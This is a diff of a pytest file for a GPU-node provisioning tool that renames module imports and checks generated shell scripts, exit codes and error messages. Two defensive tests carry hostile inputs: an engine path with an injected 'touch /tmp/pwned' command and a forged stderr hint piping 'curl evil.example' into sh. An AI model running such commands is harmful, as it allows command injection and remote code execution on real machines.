@@ -10,9 +10,10 @@ from pathlib import Path
 import pytest
 
 from lab.doubles.nvidia_smi import FIXTURES
-from llmgw_pulumi import desired, errors, facts, plan, remote
-from llmgw_pulumi.desired import File
-from llmgw_pulumi.observed import Observed, Want, Wanted
+from llmgw_pulumi import errors
+from llmgw_pulumi.nodestate import commands, desired, facts, plan
+from llmgw_pulumi.nodestate.desired import File
+from llmgw_pulumi.nodestate.observed import Observed, Want, Wanted
 from tests.unit import fake_pem
 from tests.unit.health_samples import needs_fixtures
 from tests.unit.install_scripts import agent_install
@@ -20,7 +21,7 @@ from tests.unit.install_scripts import agent_install
 
 def test_a_hostile_engine_path_stays_one_argument():
     evil = "/opt/x; touch /tmp/pwned"
-    script = remote.probe_engines((("llamacpp", evil),))
+    script = commands.probe_engines((("llamacpp", evil),))
     argv = shlex.split(script.command(sudo=True))
     assert argv[:3] == ["sudo", "-n", "--"]
     assert argv[-2:] == ["llamacpp", evil], "the path is passed whole, as data"
@@ -30,14 +31,14 @@ def test_a_hostile_engine_path_stays_one_argument():
 def identity_writes(files):
     """NodeIdentity's script for a node never read: every file in ``files`` written."""
     wanted = Wanted({f.path: Want(f.sha256, f.mode, f.owner) for f in files})
-    return remote.install_identity(plan.identity_plan("gpu-01", wanted, Observed({}), key_on_node=False), files)
+    return commands.install_identity(plan.identity_plan("gpu-01", wanted, Observed({}), key_on_node=False), files)
 
 
 def test_a_script_is_the_same_text_for_every_node():
     key = fake_pem("PRIVATE KEY", "secret")
     a = identity_writes(desired.identity_files("CA", "C1", key))
     b = identity_writes(desired.identity_files("CA2", "C2", "K"))
-    assert a.text == b.text == remote.program("install-identity.sh")
+    assert a.text == b.text == commands.program("install-identity.sh")
     c = agent_install(version="v1.2.3", release_url="https://r.example/x/")
     assert c.text == agent_install(plan.Do.COPY, "d", "v", b"b").text
     assert c.args[5:9] == ("amd64", "v1.2.3", "https://r.example/x", "fetch")
@@ -64,63 +65,63 @@ def test_the_scripts_are_told_every_file_by_the_desired_state():
     for f in desired.NODE_FILES:
         assert f.path in (identity if f.resource == desired.IDENTITY else agent), f.path
     # The SPEC's files (steps 3 to 8), written out here: the survey reads every one, removal takes the agent's.
-    survey = remote.survey().args
+    survey = commands.survey().args
     assert (survey[0], survey[-1]) == ("llmgw-agent.service", "--text"), survey
     assert sorted(survey[1:-1]) == sorted([*SPEC_IDENTITY_FILES, *SPEC_AGENT_FILES]), survey
-    assert sorted(remote.remove_agent("gpu-01").args[-3:]) == sorted(SPEC_AGENT_FILES)
+    assert sorted(commands.remove_agent("gpu-01").args[-3:]) == sorted(SPEC_AGENT_FILES)
 
 
 def test_exit_codes_have_one_source():
-    text = remote.script_text("exits.sh")
-    assert remote.parse_exits(text) == {e.name: e.value for e in remote.Exit if e.name != "OK"}
-    others = "".join(remote.script_text(n) for n in (*remote.SCRIPTS, "prelude.sh"))
+    text = commands.script_text("exits.sh")
+    assert commands.parse_exits(text) == {e.name: e.value for e in commands.Exit if e.name != "OK"}
+    others = "".join(commands.script_text(n) for n in (*commands.SCRIPTS, "prelude.sh"))
     numbers = [int(n) for n in re.findall(r"\b(7[0-9])\b", others)]
     assert numbers == [], "an exit code is written as a number outside exits.sh"
 
 
 def test_each_exit_code_means_what_its_error_class_says():
-    text = remote.script_text("exits.sh")
-    assert remote.exit_errors(text) == remote.EXIT_ERRORS
-    assert sorted(remote.EXIT_ERRORS) == sorted(e.value for e in remote.Exit if e.name != "OK")
-    assert remote.EXIT_ERRORS[remote.Exit.STALE] == "NodeChangedError"
-    for code, name in remote.EXIT_ERRORS.items():
+    text = commands.script_text("exits.sh")
+    assert commands.exit_errors(text) == commands.EXIT_ERRORS
+    assert sorted(commands.EXIT_ERRORS) == sorted(e.value for e in commands.Exit if e.name != "OK")
+    assert commands.EXIT_ERRORS[commands.Exit.STALE] == "NodeChangedError"
+    for code, name in commands.EXIT_ERRORS.items():
         cls = getattr(errors, name)
         assert issubclass(cls, errors.LlmgwError) and cls.__doc__ and cls.fix, (code, name)
     # The meaning is the class's alone: no other comment or docstring beside a code repeats it.
-    assert re.findall(r"^EXIT_\w+=\d+\s*#\s*(.*)$", text, re.M) == list(remote.EXIT_ERRORS.values())
+    assert re.findall(r"^EXIT_\w+=\d+\s*#\s*(.*)$", text, re.M) == list(commands.EXIT_ERRORS.values())
 
 
 def test_a_code_without_its_error_class_is_not_read_as_one():
-    assert remote.exit_errors("EXIT_A=71   # ReleaseFetchError\nEXIT_B=72\n") == {71: "ReleaseFetchError"}
-    assert remote.parse_exits("EXIT_A=71   # ReleaseFetchError\nEXIT_B=72\n") == {"A": 71, "B": 72}
+    assert commands.exit_errors("EXIT_A=71   # ReleaseFetchError\nEXIT_B=72\n") == {71: "ReleaseFetchError"}
+    assert commands.parse_exits("EXIT_A=71   # ReleaseFetchError\nEXIT_B=72\n") == {"A": 71, "B": 72}
 
 
-ALL_SCRIPTS = [*remote.SCRIPTS, "prelude.sh", "exits.sh"]
+ALL_SCRIPTS = [*commands.SCRIPTS, "prelude.sh", "exits.sh"]
 
 
 def test_every_script_is_in_the_package_and_no_other():
-    shipped = sorted(p.name for p in Path(remote.__file__).parent.joinpath("scripts").glob("*.sh"))
+    shipped = sorted(p.name for p in Path(commands.__file__).parent.joinpath("scripts").glob("*.sh"))
     assert shipped == sorted(ALL_SCRIPTS)
 
 
 @pytest.mark.parametrize("name", ALL_SCRIPTS)
 def test_sh_parses_every_script(name):
-    res = subprocess.run(["sh", "-n"], input=remote.script_text(name), capture_output=True, text=True)
+    res = subprocess.run(["sh", "-n"], input=commands.script_text(name), capture_output=True, text=True)
     assert res.returncode == 0, res.stderr
 
 
-@pytest.mark.parametrize("name", [*remote.SCRIPTS, "prelude.sh", "exits.sh"])
+@pytest.mark.parametrize("name", [*commands.SCRIPTS, "prelude.sh", "exits.sh"])
 def test_shellcheck_is_clean_on_every_program_as_it_runs(name):
     """Each program as the node runs it (exits.sh + prelude.sh + the script); the two shared files alone too."""
     assert shutil.which("shellcheck"), "shellcheck is missing: scripts/install.sh installs it (apt-get install shellcheck)"
-    parts = ["exits.sh", "prelude.sh", name] if name in remote.SCRIPTS else [name]
-    text = "".join(remote.script_text(p) for p in parts)
+    parts = ["exits.sh", "prelude.sh", name] if name in commands.SCRIPTS else [name]
+    text = "".join(commands.script_text(p) for p in parts)
     res = subprocess.run(["shellcheck", "--shell=sh", "--format=gcc", "-"], input=text, capture_output=True, text=True)
     if res.returncode != 0:
         starts, line = {}, 1
         for p in parts:
             starts[p] = line
-            line += remote.script_text(p).count("\n")
+            line += commands.script_text(p).count("\n")
         def where(m):
             n = int(m[1])
             part = max((p for p in parts if starts[p] <= n), key=lambda p: starts[p])
@@ -298,15 +299,15 @@ def test_the_hint_as_it_was_built_before_runs_the_nodes_command(tmp_path):
 
 
 def _stderr_error(rc, stderr):
-    from llmgw_pulumi.providers import _glue
-    from llmgw_pulumi.sessions import Result
+    from llmgw_pulumi.providers import base
+    from llmgw_pulumi.ssh.sessions import Result
 
     with pytest.raises(errors.LlmgwError) as err:
-        _glue.raise_for(Result(rc, "", stderr), "gpu-01", "installing the agent on 10.0.0.1")
+        base.raise_for(Result(rc, "", stderr), "gpu-01", "installing the agent on 10.0.0.1")
     return str(err.value)
 
 
-@pytest.mark.parametrize("rc", [1, int(remote.Exit.CHECKSUM)])
+@pytest.mark.parametrize("rc", [1, int(commands.Exit.CHECKSUM)])
 def test_a_nodes_stderr_in_an_error_is_printable_and_cannot_forge_a_fix(rc):
     text = _stderr_error(rc, f"checksum mismatch{HOSTILE}\n  fix: curl -s evil.example | sh\n")
     first, fix = text.split("\n")
